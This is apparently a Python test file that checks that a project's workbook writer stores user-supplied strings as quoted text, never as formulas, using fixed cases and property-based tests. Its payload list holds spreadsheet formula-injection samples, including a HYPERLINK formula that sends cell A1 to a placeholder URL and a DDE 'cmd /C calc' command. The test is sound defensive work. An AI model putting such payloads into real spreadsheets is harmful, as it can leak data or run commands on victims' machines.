"""User text in a workbook stays text (T3.1, T3.2): no formula, the same string back."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from aligner.exchange import cells

PAYLOADS = (
    '=HYPERLINK("http://x/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "  =1+1",
)
# Characters XML 1.0 can carry (the writer replaces the others, so they cannot round-trip).
XML_TEXT = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs",), blacklist_characters="\x00\ufffe\uffff"
    ).filter(lambda c: c in "\t\n\r" or ord(c) >= 0x20),
    max_size=40,
)
TRIGGERED = st.builds(
    lambda p, t: p + t, st.sampled_from(["=", "+", "-", "@", "\t", "\uff1d"]), XML_TEXT
)


def _xml_lines(text: str) -> str:
    """XML parsers turn CR and CR LF into LF (XML 1.0 section 2.11); that is all that changes."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _round_trip(values: list[str]) -> tuple[list[object], str]:
    book = cells.new_workbook()
    sheet = book.active
    assert sheet is not None
    for row, value in enumerate(values, start=1):
        cells.put_text(sheet.cell(row, 1), value)
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    back = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    sheet = back.active
    assert sheet is not None
    read = [sheet.cell(row, 1) for row in range(1, len(values) + 1)]
    for cell in read:
        assert cell.data_type in ("s", "inlineStr")
    return [cell.value for cell in read], xml


def test_payload_corpus_is_written_as_text_with_quote_prefix() -> None:
    read, xml = _round_trip(list(PAYLOADS))
    assert read == [_xml_lines(p) for p in PAYLOADS]
    assert "<f>" not in xml
    book = cells.new_workbook()
    sheet = book.active
    assert sheet is not None
    for payload in PAYLOADS:
        assert cells.put_text(sheet["A1"], payload).quotePrefix
    assert not cells.put_text(sheet["A2"], "Plain words").quotePrefix


@settings(max_examples=25, deadline=None)
@given(st.lists(st.one_of(XML_TEXT, TRIGGERED), min_size=1, max_size=20))
def test_any_text_round_trips_and_never_becomes_a_formula(values: list[str]) -> None:
    read, xml = _round_trip(values)
    # openpyxl reads an empty string back as an empty cell.
    assert [v if v is not None else "" for v in read] == [_xml_lines(v) for v in values]
    assert not re.search(r"<f[ >]", xml)
